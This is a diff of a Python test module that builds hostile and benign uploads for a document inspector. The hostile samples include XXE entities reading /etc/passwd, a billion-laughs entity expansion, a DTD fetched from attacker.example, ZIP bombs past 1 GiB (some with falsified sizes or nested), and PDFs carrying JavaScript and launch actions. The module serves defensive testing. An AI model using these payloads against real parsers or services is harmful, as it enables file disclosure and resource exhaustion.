@@ -1,9 +1,8 @@
 """A corpus of good and hostile uploads for the document inspector, built at test time.
 
 Nothing binary is committed: every file is made here, in memory, in well
-under a second. The zip bombs inflate past 1 GiB yet take about a megabyte:
-a deflate block for 1 MiB of zeros, flushed to a byte boundary, is the same
-bytes every time, so the stream is that block repeated.
+under a second (ZIP archives by hand in ``corpus_zip``, PDFs in
+``corpus_pdf``).
 
 ``CORPUS`` lists every hostile file with the reason it must be refused for;
 ``run_corpus()`` inspects them all (the memory test runs it in a child).
@@ -11,99 +10,14 @@ bytes every time, so the stream is that block repeated.
 import functools
 import io
 import random
-import struct
-import zipfile
-import zlib
 
 import docx
 
-GIB = 1024 ** 3
-MIB = 1024 ** 2
-
-# ---------------------------------------------------------------------------
-# ZIP, by hand (zipfile cannot write pre-compressed data or lie about sizes)
-# ---------------------------------------------------------------------------
-
-
-@functools.lru_cache(maxsize=None)
-def deflated_zeros(size, wbits=-15):
-    """(compressed stream, crc32) of ``size`` zero bytes (a multiple of 1 MiB), built in milliseconds."""
-    zeros = bytes(MIB)
-    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
-    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
-    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
-    count = size // MIB
-    if wbits > 0:
-        # zlib wrapper: header in the first block, Adler-32 of n zeros is (n mod 65521) << 16 | 1.
-        tail = b"\x03\x00" + struct.pack(">L", ((size % 65521) << 16) | 1)
-        return first + block * (count - 1) + tail, None
-    crc = 0
-    for _ in range(count):
-        crc = zlib.crc32(zeros, crc)
-    return block * count + b"\x03\x00", crc
-
-
-def member(name, payload=b"", *, raw=None, crc=None, size=None, declared=None, compressed=None,
-           stored=False):
-    """A ZIP member: deflated (or ``stored``) from ``payload``, or ``raw`` deflate data with its crc and size.
-
-    ``declared`` and ``compressed`` make the directory claim other sizes than the real ones.
-    """
-    if raw is None:
-        if stored:
-            raw = payload
-        else:
-            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
-            raw = compressor.compress(payload) + compressor.flush()
-        crc, size = zlib.crc32(payload), len(payload)
-    return {"name": name, "raw": raw, "crc": crc, "size": size, "method": 0 if stored else 8,
-            "declared": size if declared is None else declared,
-            "compressed": len(raw) if compressed is None else compressed}
-
-
-def zip_bytes(members, *, zip64=False):
-    """A ZIP archive of ``members`` (see ``member``), declared sizes as given.
-
-    With ``zip64`` the central directory keeps sizes and offsets in ZIP64
-    extra fields and ends with a ZIP64 end record, as large-file writers do.
-    """
-    out, central = io.BytesIO(), []
-    for m in members:
-        name = m["name"].encode()
-        offset = out.tell()
-        fields = (20, 0x800, m["method"], 0, 0x21, m["crc"], m["compressed"], m["declared"], len(name))
-        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields, 0) + name + m["raw"])
-        if zip64:
-            extra = struct.pack("<2H3Q", 1, 24, m["declared"], m["compressed"], offset)
-            big = fields[:6] + (0xFFFFFFFF, 0xFFFFFFFF) + fields[8:]
-            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 45, *big, len(extra), 0, 0, 0, 0,
-                                       0xFFFFFFFF) + name + extra)
-        else:
-            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0, offset)
-                           + name)
-    start = out.tell()
-    out.write(b"".join(central))
-    size, count = out.tell() - start, len(members)
-    if zip64:
-        record = out.tell()
-        out.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start))
-        out.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, record, 1))
-        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
-    else:
-        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, start, 0))
-    return out.getvalue()
-
-
-def parts_of(data):
-    """The members of a (trusted) ZIP as {name: bytes}."""
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        return {info.filename: archive.read(info) for info in archive.infolist()}
-
-
-def rezip(parts, **options):
-    """A ZIP of {name: bytes}."""
-    return zip_bytes([member(name, payload) for name, payload in parts.items()], **options)
-
+from .corpus_pdf import (corrupt_pdf, encrypted_pdf, escaped_js_pdf, go_to_page_pdf, launch_pdf,  # noqa: F401
+                         named_js_pdf, open_action_js_pdf, owner_only_pdf, page_aa_pdf, pdf_bomb, pdf_bytes,
+                         valid_pdf)
+from .corpus_zip import (GIB, MIB, deflated_zeros, member, parts_of, rezip, with_parts,  # noqa: F401
+                         zero_archive, zip_bytes)
 
 # ---------------------------------------------------------------------------
 # Good documents
@@ -131,13 +45,7 @@ def valid_docx():
 
 def docx_parts(changes):
     """The valid .docx with parts replaced or added ({name: bytes}), or removed (None)."""
-    parts = parts_of(valid_docx())
-    for name, payload in changes.items():
-        if payload is None:
-            parts.pop(name, None)
-        else:
-            parts[name] = payload
-    return rezip(parts)
+    return with_parts(valid_docx(), changes)
 
 
 @functools.lru_cache(maxsize=None)
@@ -155,83 +63,6 @@ def valid_xlsx():
     return out.getvalue()
 
 
-def pdf_bytes(*pages, content=None, filter_=None):
-    """A PDF whose pages hold the given lines (Cyrillic too), or one page with raw ``content``.
-
-    The font is Helvetica with a ToUnicode map from Windows-1251 codes, so
-    the text comes back out as Unicode without embedding a font.
-    """
-    pages = pages or (["Пустая страница"],)
-    codes = sorted({b for page in pages for line in page for b in line.encode("cp1251")})
-    tounicode = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
-                 b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
-                 b"/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
-                 b"1 begincodespacerange <00> <FF> endcodespacerange\n")
-    for start in range(0, len(codes), 100):
-        chunk = codes[start:start + 100]
-        tounicode += b"%d beginbfchar\n" % len(chunk)
-        for code in chunk:
-            tounicode += b"<%02X> <%04X>\n" % (code, ord(bytes([code]).decode("cp1251")))
-        tounicode += b"endbfchar\n"
-    tounicode += b"endcmap CMapName currentdict /CMap defineresource pop end end"
-
-    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
-               3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 4 0 R >>",
-               4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(tounicode), tounicode)}
-    kids = []
-    for index, page in enumerate(pages):
-        page_id, stream_id = 5 + 2 * index, 6 + 2 * index
-        body = content if content is not None else (
-            b"BT /F1 14 Tf 16 TL 72 760 Td "
-            + b" ".join(b"<%s> Tj T*" % line.encode("cp1251").hex().encode() for line in page) + b" ET")
-        extra = b" /Filter /%s" % filter_.encode() if filter_ else b""
-        objects[page_id] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
-                            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % stream_id)
-        objects[stream_id] = b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(body), extra, body)
-        kids.append(b"%d 0 R" % page_id)
-    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
-
-    out = io.BytesIO()
-    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
-    offsets = {}
-    for number in sorted(objects):
-        offsets[number] = out.tell()
-        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
-    xref = out.tell()
-    size = max(objects) + 1
-    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
-    for number in range(1, size):
-        out.write(b"%010d 00000 n \n" % offsets[number])
-    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
-    return out.getvalue()
-
-
-def valid_pdf():
-    """A two-page anti-risk programme in PDF."""
-    return pdf_bytes(["Антирисковая программа", "1. Цели", "Повысить долю обучающихся."],
-                     ["2. Задачи", "Обновить систему оценивания.", "Показатели"])
-
-
-def encrypted_pdf():
-    """A PDF that opens only with a password."""
-    import pypdf
-    writer = pypdf.PdfWriter(clone_from=io.BytesIO(valid_pdf()))
-    writer.encrypt(user_password="секрет", owner_password="owner", algorithm="RC4-128")
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
-
-
-def owner_only_pdf():
-    """A PDF restricted by an owner password only: opens in any viewer without asking."""
-    import pypdf
-    writer = pypdf.PdfWriter(clone_from=io.BytesIO(valid_pdf()))
-    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
-
-
 # ---------------------------------------------------------------------------
 # Hostile documents
 # ---------------------------------------------------------------------------
@@ -246,20 +77,38 @@ def document_xml(doctype=b"", body=b"<w:p><w:r><w:t>Text</w:t></w:r></w:p>", enc
     return text.decode("utf-8").encode(encoding) if encoding.lower() != "utf-8" else text
 
 
+def xxe_doctype(root):
+    """A DOCTYPE for ``root`` declaring an external entity ``&xxe;`` that reads /etc/passwd."""
+    return b'<!DOCTYPE %s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' % root
+
+
+def laughs_doctype(root):
+    """A DOCTYPE for ``root`` with ten levels of nested entities: ``&lol9;`` is 10^9 "lol"s if expanded."""
+    entities = [b'<!ENTITY lol0 "lol">']
+    entities += [b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)]
+    return b"<!doctype %s [" % root + b"".join(entities) + b"]>\n"
+
+
+def xxe_xml():
+    """Any XML part with the external entity (the byte scan refuses it whatever the root)."""
+    return b'<?xml version="1.0"?>\n' + xxe_doctype(b"r") + b"<r>&xxe;</r>"
+
+
+def billion_laughs_xml():
+    """Any XML part with the billion laughs."""
+    return b'<?xml version="1.0"?>\n' + laughs_doctype(b"r") + b"<r>&lol9;</r>"
+
+
 def xxe_docx():
     """document.xml declares an external entity that reads /etc/passwd."""
-    return docx_parts({"word/document.xml": document_xml(
-        b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
-        b"<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>")})
+    return docx_parts({"word/document.xml": document_xml(xxe_doctype(b"w:document"),
+                                                         b"<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>")})
 
 
 def billion_laughs_docx():
-    """document.xml with ten levels of nested entities (10^9 "lol"s if expanded)."""
-    entities = [b'<!ENTITY lol0 "lol">']
-    entities += [b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)]
-    return docx_parts({"word/document.xml": document_xml(
-        b"<!doctype w:document [" + b"".join(entities) + b"]>\n",
-        b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>")})
+    """document.xml with the billion laughs."""
+    return docx_parts({"word/document.xml": document_xml(laughs_doctype(b"w:document"),
+                                                         b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>")})
 
 
 def utf16_doctype_docx():
@@ -283,20 +132,22 @@ def doctype_in_other_part_docx():
                        b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>'})
 
 
+def zip_bomb_of(data, part="xl/media/image1.png", size=GIB + 64 * MIB, declared=None):
+    """The (trusted) ZIP ``data`` plus one part of zeros inflating past 1 GiB, its size declared
+    honestly (or as ``declared``)."""
+    raw, crc = deflated_zeros(size)
+    return zip_bytes([member(n, p) for n, p in parts_of(data).items()]
+                     + [member(part, raw=raw, crc=crc, size=size, declared=declared)])
+
+
 def zip_bomb_docx(size=GIB + 64 * MIB):
     """A real .docx plus one media part of zeros inflating past 1 GiB, sizes declared honestly."""
-    raw, crc = deflated_zeros(size)
-    parts = parts_of(valid_docx())
-    return zip_bytes([member(n, p) for n, p in parts.items()]
-                     + [member("word/media/image1.png", raw=raw, crc=crc, size=size)])
+    return zip_bomb_of(valid_docx(), "word/media/image1.png", size)
 
 
 def lying_zip_bomb_docx(size=GIB + 64 * MIB):
     """The same bomb, but the directory claims the part inflates to 10 KB."""
-    raw, crc = deflated_zeros(size)
-    parts = parts_of(valid_docx())
-    return zip_bytes([member(n, p) for n, p in parts.items()]
-                     + [member("word/media/image1.png", raw=raw, crc=crc, size=size, declared=10_000)])
+    return zip_bomb_of(valid_docx(), "word/media/image1.png", size, declared=10_000)
 
 
 def overlapping_docx():
@@ -332,15 +183,44 @@ def truncated_docx():
     return data[:len(data) // 2]
 
 
-def pdf_bomb():
-    """A PDF page whose content stream inflates to 1 GiB of zeros."""
-    raw, _ = deflated_zeros(GIB, wbits=15)
-    return pdf_bytes(content=raw, filter_="FlateDecode")
+def not_a_package_docx():
+    """A ZIP holding the two names a .docx has, and nothing of a Word document in them."""
+    return rezip({"[Content_Types].xml": b"<html/>",
+                  "word/document.xml": b"<html><body><script>alert(1)</script></body></html>"})
 
 
-def corrupt_pdf():
-    """Something that starts like a PDF and is not one."""
-    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF"
+_WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+
+
+def undeclared_main_part_docx():
+    """A .docx whose content types no longer say that word/document.xml is a Word document."""
+    types = parts_of(valid_docx())["[Content_Types].xml"]
+    return docx_parts({"[Content_Types].xml": types.replace(_WORD_MAIN, b"application/xml")})
+
+
+def unrelated_main_part_docx():
+    """A .docx without the package relationship that points a reader to its main part."""
+    return docx_parts({"_rels/.rels": None})
+
+
+def foreign_main_part_docx():
+    """A .docx whose main part is declared right but holds an HTML page instead of a Word body."""
+    return docx_parts({"word/document.xml": b"<html><body><p>Text</p></body></html>"})
+
+
+def embedded_archive_docx():
+    """A .docx with an embedded ZIP (word/embeddings/) whose one part inflates to 512 MiB."""
+    return docx_parts({"word/embeddings/oleObject1.zip": zero_archive(512 * MIB)})
+
+
+def embedded_bomb_docx():
+    """A .docx embedding another .docx, itself a zip bomb (as Word embeds a document in a document)."""
+    return docx_parts({"word/embeddings/Microsoft_Word_Document.docx": zip_bomb_docx()})
+
+
+def docx_with_embedded_workbook():
+    """A .docx with a chart's workbook embedded, as Word saves every chart: a small archive is fine."""
+    return docx_parts({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": valid_xlsx()})
 
 
 class EndlessStream(io.RawIOBase):
@@ -386,12 +266,25 @@ CORPUS = {
     "corrupt_pdf": ("broken.pdf", corrupt_pdf, {}, "corrupt"),
     "encrypted_pdf": ("secret.pdf", encrypted_pdf, {}, "encrypted"),
     "too_many_pages": ("long.pdf", lambda: pdf_bytes(["1"], ["2"], ["3"]), {"max_pdf_pages": 2}, "pages"),
+    "not_a_package": ("пакет.docx", not_a_package_docx, {}, "package"),
+    "undeclared_main_part": ("типы.docx", undeclared_main_part_docx, {}, "package"),
+    "unrelated_main_part": ("связи.docx", unrelated_main_part_docx, {}, "package"),
+    "foreign_main_part": ("html.docx", foreign_main_part_docx, {}, "package"),
+    "embedded_archive": ("вложение.docx", embedded_archive_docx, {}, "bomb"),
+    "embedded_bomb": ("матрёшка.docx", embedded_bomb_docx, {}, "bomb"),
+    "open_action_js": ("сценарий.pdf", open_action_js_pdf, {}, "active_content"),
+    "named_js": ("имена.pdf", named_js_pdf, {}, "active_content"),
+    "page_aa": ("страница.pdf", page_aa_pdf, {}, "active_content"),
+    "launch": ("запуск.pdf", launch_pdf, {}, "active_content"),
+    "escaped_js": ("экран.pdf", escaped_js_pdf, {}, "active_content"),
 }
 
 GOOD = {
     "docx": ("программа.docx", valid_docx),
     "pdf": ("программа.pdf", valid_pdf),
     "owner_only_pdf": ("права.pdf", owner_only_pdf),
+    "go_to_page_pdf": ("открытие.pdf", go_to_page_pdf),
+    "docx_with_embedded_workbook": ("диаграмма.docx", docx_with_embedded_workbook),
 }
 
 
